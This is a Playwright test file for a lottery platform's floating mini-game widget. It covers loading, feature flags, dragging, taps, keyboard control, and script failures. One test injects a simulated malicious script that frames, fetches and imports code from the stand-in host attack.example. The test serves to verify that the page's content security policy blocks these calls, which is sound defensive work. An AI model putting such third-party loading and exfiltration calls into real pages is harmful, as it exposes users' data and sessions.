/** The mini-game, a widget from the operator's own platform that floats above the screens. */

import type { Locator, Page } from '@playwright/test'
import { advanceUntil, stopClock } from '../../../tools/support/page-clock.ts'
import type { Texts } from '../../../tools/support/texts.ts'
import { untilQuiet } from '../../../tools/support/until-quiet.ts'
import type { SandboxClient } from '../../../world/sandbox.ts'
import { goWithin } from '../../support/account-openings.ts'
import { logIn, openHome, startAsMember } from '../../support/actions.ts'
import { expectUsable, showWhole } from '../../support/expect-accessible.ts'
import { expect, overlay, screen, test } from '../../support/fixtures.ts'
import { startNewVisit } from '../../support/new-visit.ts'
import { describeOnlyAt } from '../../support/one-brand.ts'

const scripts = ['/mini-game/v1/minigame.js', '/mini-game/s1/minigame.js'] as const
const [v1, s1] = scripts

const widget = (page: Page) => overlay(page, 'mini-game')
const handle = (page: Page, texts: Texts) =>
  widget(page).getByRole('button', { name: texts('mini_game') })
/** Finds the game's own panel. One tap opens the panel, and the next tap closes it. */
const panel = (page: Page) => widget(page).getByRole('status')

describeOnlyAt('lotus')('the mini-game', () => {
  // Without a configured position, the widget is tucked away at the edge.
  test.beforeEach(({ sandbox }) =>
    sandbox.patch({ settings: { miniGameOptions: { bottom: 96, left: 16 } } }),
  )

  test('the mini-game is fetched only for members, and floats at the configured offsets [MINIGAME-01, MINIGAME-02, CALL-23]', {
    tag: '@fast',
  }, async ({ page, texts, sandbox }) => {
    await sandbox.patch({ settings: { miniGameOptions: { bottom: 200, left: 40 } } })
    await openHome(page)
    await untilQuiet(page)

    await expect(widget(page)).toHaveCount(0)
    expect(await readScripts(sandbox)).toEqual([])

    const begunMs = Date.now()
    await logIn(page, texts)

    await expect(widget(page)).toBeVisible()
    expect(await readPlace(widget(page))).toEqual({ left: 40, bottom: 200 })

    const [asked, ...others] = await sandbox.requests(v1)

    expect(others).toEqual([])
    expect(Number(asked?.query.t)).toBeGreaterThan(begunMs - 60_000)
    expect(await sandbox.requests(s1)).toEqual([])

    await showWhole(page)
    await expectUsable(page)
  })

  test("the page's policy prevents the mini-game's script from loading, sending or framing third-party content", async ({
    page,
    texts,
    expectedErrors,
  }) => {
    expectedErrors.push(/Content Security Policy|attack\.example|mini-game/, /TrustedScript/)
    const sent: string[] = []
    await page.route('https://attack.example/**', route => {
      sent.push(route.request().url())
      return route.fulfill({ body: '' })
    })
    await page.route(`**${v1}*`, route =>
      route.fulfill({ contentType: 'text/javascript', body: `(${attack})()` }),
    )
    const fetched = page.waitForRequest(`**${v1}*`)
    await logIn(page, texts)
    await fetched

    await expect
      .poll(() => page.evaluate(() => document.documentElement.dataset.refused?.split(' ').sort()))
      .toEqual([
        'connect-src',
        'frame-src',
        // The two violations: a script URL, and a string run as code.
        'require-trusted-types-for',
        'require-trusted-types-for',
        'script-src-elem',
      ])
    expect(sent).toEqual([])
  })

  test('the mini-game follows the feature flags [CALL-23]', { tag: '@fast' }, async ({
    page,
    sandbox,
  }) => {
    for (const [title, LOTTMINIGAME3, SEALOTTMINIGAME3, script] of [
      ['is v1 with LOTTMINIGAME3 [SYSTEM-02]', true, false, v1],
      ['is s1 with SEALOTTMINIGAME3 [SYSTEM-02]', false, true, s1],
      ['is v1 with both flags', true, true, v1],
      ['is absent with neither flag', false, false, undefined],
    ] as const) {
      await test.step(title, async () => {
        await sandbox.patch({ flags: { LOTTMINIGAME3, SEALOTTMINIGAME3 } })
        await startNewVisit(page)
        await startAsMember(page, sandbox)
        const before = (await readScripts(sandbox)).length
        await openHome(page)
        await untilQuiet(page)

        await expect(widget(page)).toHaveCount(script ? 1 : 0)

        const asked = (await readScripts(sandbox)).slice(before)

        expect(asked.map(({ path }) => path)).toEqual(script ? [script] : [])
        expect(asked.every(({ query }) => /^\d{13}$/.test(query.t ?? ''))).toBe(true)
      })
    }
  })

  test('the mini-game disappears at logout and returns after a login [MINIGAME-03]', {
    tag: '@fast',
  }, async ({ page, texts }) => {
    await logIn(page, texts)

    await expect(widget(page)).toBeVisible()

    await page.goto('/m/member/home')

    // The account menu hides the widget, but the game keeps running.
    await expect(widget(page)).toHaveCount(1)

    await page.getByRole('button', { name: texts('log_out') }).click()

    await expect(screen(page, 'home')).toBeVisible()
    await expect(widget(page)).toHaveCount(0)

    await logIn(page, texts)

    await expect(widget(page)).toBeVisible()
  })

  test('a pointer that moves by less than 2 px taps the mini-game; a longer move drags it [MINIGAME-04]', async ({
    page,
    texts,
  }) => {
    await logIn(page, texts)
    const from = await readRest(page)
    await drag(page, handle(page, texts), 1, 0)

    await expect(panel(page)).toBeVisible()
    expect(await readPlace(widget(page))).toEqual(from)

    await drag(page, handle(page, texts), 3, 0)

    expect(await readPlace(widget(page))).toEqual({ ...from, left: from.left + 3 })

    await drag(page, handle(page, texts), 120, -200)

    expect(await readPlace(widget(page))).toEqual({
      left: from.left + 123,
      bottom: from.bottom + 200,
    })
    // Neither drag counts as a tap, so the panel is still open after the first tap.
    await expect(panel(page)).toBeVisible()
  })

  test('the mini-game treats taps within 250 ms as one tap [MINIGAME-05]', {
    tag: '@fast',
  }, async ({ page, texts }) => {
    await page.clock.install()
    await logIn(page, texts)

    await expect(widget(page)).toBeVisible()

    await stopClock(page)
    const tap = () => handle(page, texts).click()
    await tap()

    await expect(panel(page)).toBeVisible()

    await page.clock.runFor(249)
    await tap()

    await expect(panel(page)).toBeVisible()

    await page.clock.runFor(250)
    await tap()

    await expect(panel(page)).toHaveCount(0)
  })

  test('the mini-game moves back inside its 2 % margins within 250 ms after any rotation [MINIGAME-06]', async ({
    page,
    texts,
  }) => {
    await page.clock.install()
    await logIn(page, texts)

    await expect(widget(page)).toBeVisible()

    await drag(page, handle(page, texts), 900, -900)
    // 2 % of 390 px.
    await expectEdges(page, { right: 7.8, top: 7.8 })
    await stopClock(page)
    // Aligns the next position check with the clock.
    await page.setViewportSize({ width: 350, height: 844 })
    await advanceUntil(page, async () => (await readEdges(page)).right === 7, { stepMs: 10 })
    await page.setViewportSize({ width: 320, height: 844 })
    await page.clock.runFor(230)

    expect(await readEdges(page)).toMatchObject({ right: 7 - 30 })

    await page.clock.runFor(20)
    await expectEdges(page, { right: 6.4 })
  })

  test("the mini-game stays above the tab bar and home's shortcut, and hides during sheets and payments", async ({
    page,
    texts,
  }) => {
    await logIn(page, texts)
    await readRest(page)
    await drag(page, handle(page, texts), 0, 900)

    expect(await isAboveShortcut(page)).toBe(true)

    await overlay(page, 'activity-shortcut')
      .getByRole('button', { name: texts('close') })
      .click()
    await drag(page, handle(page, texts), 0, 900)
    const bar = await page.getByRole('navigation', { name: texts('main_navigation') }).boundingBox()
    const box = await widget(page).boundingBox()

    expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(bar?.y ?? 0)

    await page
      .getByRole('banner')
      .getByRole('button', { name: texts('support') })
      .click()

    await expect(overlay(page, 'contact')).toBeVisible()
    await expect(widget(page)).toBeHidden()

    await page.keyboard.press('Escape')

    await expect(widget(page)).toBeVisible()

    await goWithin(page, '/m/withdraw')

    await expect(screen(page, 'withdraw')).toBeVisible()
    await expect(widget(page)).toBeHidden()

    await page.goBack()

    await expect(widget(page)).toBeVisible()
  })

  test('the mini-game moves off screen except for 24 px during scrolling, and returns for a pointer', async ({
    page,
    texts,
  }) => {
    await logIn(page, texts)
    const from = await readRest(page)
    await page.evaluate(() => scrollTo(0, 300))

    await expect.poll(() => readPlace(widget(page))).toEqual({ ...from, left: -40 })

    await page.mouse.move(10, 844 - from.bottom - 32)

    await expect.poll(() => readPlace(widget(page))).toEqual(from)

    await page.mouse.move(300, 200)
    await page.evaluate(() => scrollTo(0, 0))

    expect(await readPlace(widget(page))).toEqual(from)
  })

  test('the arrow keys move the mini-game, and Enter and Space tap it [WCAG 2.1.1, 2.5.7]', async ({
    page,
    texts,
  }) => {
    await logIn(page, texts)
    const from = await readRest(page)
    await handle(page, texts).focus()

    for (const key of ['ArrowRight', 'ArrowRight', 'ArrowUp', 'ArrowLeft']) {
      await page.keyboard.press(key)
    }

    const to = { left: from.left + 16, bottom: from.bottom + 16 }

    expect(await readPlace(widget(page))).toEqual(to)

    await page.keyboard.press('ArrowDown')

    expect(await readPlace(widget(page))).toEqual({ ...to, bottom: from.bottom })

    await page.clock.install()
    await stopClock(page)
    await page.keyboard.press('Enter')

    await expect(panel(page)).toBeVisible()

    await page.clock.runFor(300)
    await page.keyboard.press('Space')

    await expect(panel(page)).toHaveCount(0)
  })

  for (const [fault, answer, said] of [
    ['cannot be fetched', { status: 404, body: '' }, /404/],
    ['is none', { status: 200, body: 'window.other = 1' }, undefined],
    ['throws', { status: 200, body: 'throw new Error("no game today")' }, /no game today/],
    [
      'throws once it is mounted',
      {
        status: 200,
        body: 'window.LiveryMiniGame = { mount() { throw new Error("no game today") } }',
      },
      undefined,
    ],
  ] as const) {
    test(`the mini-game is absent, without side effects, when its script ${fault}`, async ({
      page,
      texts,
      expectedErrors,
    }) => {
      // The browser itself reports the first and third failures.
      if (said) expectedErrors.push(said)
      await page.route(`**${v1}*`, route =>
        route.fulfill({ ...answer, contentType: 'text/javascript' }),
      )
      const asked = page.waitForRequest(`**${v1}*`)
      await logIn(page, texts)
      await asked
      await untilQuiet(page)

      await expect(widget(page)).toHaveCount(0)
      await expect(overlay(page, 'alert')).toHaveCount(0)
      await expect(screen(page, 'home')).toBeVisible()
    })
  }
})

async function readScripts(sandbox: SandboxClient) {
  const asked = (await Promise.all(scripts.map(path => sandbox.requests(path)))).flat()
  return asked.toSorted((one, other) => one.at.localeCompare(other.at))
}

/**
 * Presses the pointer in the middle of the element, moves the pointer in steps, and releases it.
 */
async function drag(page: Page, element: Locator, right: number, down: number): Promise<void> {
  const box = await element.boundingBox()
  if (!box) throw new Error('there is nothing to drag')

  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2]
  await page.mouse.move(x, y)
  await page.mouse.down()
  await page.mouse.move(x + right, y + down, { steps: 3 })
  await page.mouse.up()
}

/** Returns the widget's position after home's shortcut has appeared and moved the widget up. */
async function readRest(page: Page): Promise<{ left: number; bottom: number }> {
  await expect.poll(() => isAboveShortcut(page)).toBe(true)
  return readPlace(widget(page))
}

async function isAboveShortcut(page: Page): Promise<boolean> {
  const dock = await overlay(page, 'activity-shortcut').boundingBox()
  const box = await widget(page).boundingBox()
  return box !== null && dock !== null && box.y + box.height <= dock.y
}

function readPlace(element: Locator): Promise<{ left: number; bottom: number }> {
  return element.evaluate(node => {
    const { left, bottom } = node.getBoundingClientRect()
    return { left, bottom: window.innerHeight - bottom }
  })
}

/** Returns the widget's distances from the edges of the window. */
async function readEdges(page: Page): Promise<{ right: number; top: number }> {
  return widget(page).evaluate(node => {
    const { right, top } = node.getBoundingClientRect()
    const round = (value: number) => Math.round(value * 10) / 10
    return { right: round(window.innerWidth - right), top: round(top) }
  })
}

async function expectEdges(page: Page, edges: { right: number; top?: number }): Promise<void> {
  await expect.poll(() => readEdges(page)).toMatchObject(edges)
}

/** Runs in the page, and simulates a malicious mini-game script. */
function attack(): void {
  const refused: string[] = []
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    refused.push(effectiveDirective)
    document.documentElement.dataset.refused = refused.join(' ')
  })
  const origin = 'https://attack.example'
  document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/iframe` }))
  fetch(origin, { mode: 'no-cors' }).catch(() => undefined)
  import(`${origin}/module`).catch(() => undefined)

  for (const run of [
    () => Object.assign(document.createElement('script'), { src: `${origin}/script` }),
    () => new Function('return 1')(),
  ]) {
    try {
      run()
    } catch {
      // The policy throws an error instead of running the string, and reports the violation with an
      // event.
    }
  }
}
